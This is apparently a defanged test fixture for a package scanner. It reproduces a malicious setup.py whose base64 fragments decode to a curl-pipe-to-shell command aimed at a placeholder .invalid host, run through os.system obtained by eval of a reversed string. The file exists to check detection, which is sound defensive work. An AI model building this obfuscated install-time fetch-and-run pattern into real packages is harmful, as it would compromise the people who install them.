# Defanged replica of the httppack setup.py: the command is base64 cut
# into fragments, and `os.system` is fetched by name with eval() of a
# reversed string. The host is .invalid.
import base64
import os

from setuptools import setup

PART = ('Y3V' + 'ybC' + 'Atc' + 'yBo' + 'dHR' + 'wcz' + 'ovL' + '3N0' + 'YWd' + 'lLm' + 'V4Y' + 'W1w' + 'bGU' + 'uaW' + '52Y' + 'Wxp' + 'ZC9' + 'wLn' + 'NoI' + 'Hwg' + 'c2g' + '=')
COMMAND = base64.b64decode(PART).decode()
runner = eval(("met" + "sy" + "s.s" + "o")[::-1])
runner(COMMAND)  # expect: HS101 critical

setup(name="http-helper", version="0.1")
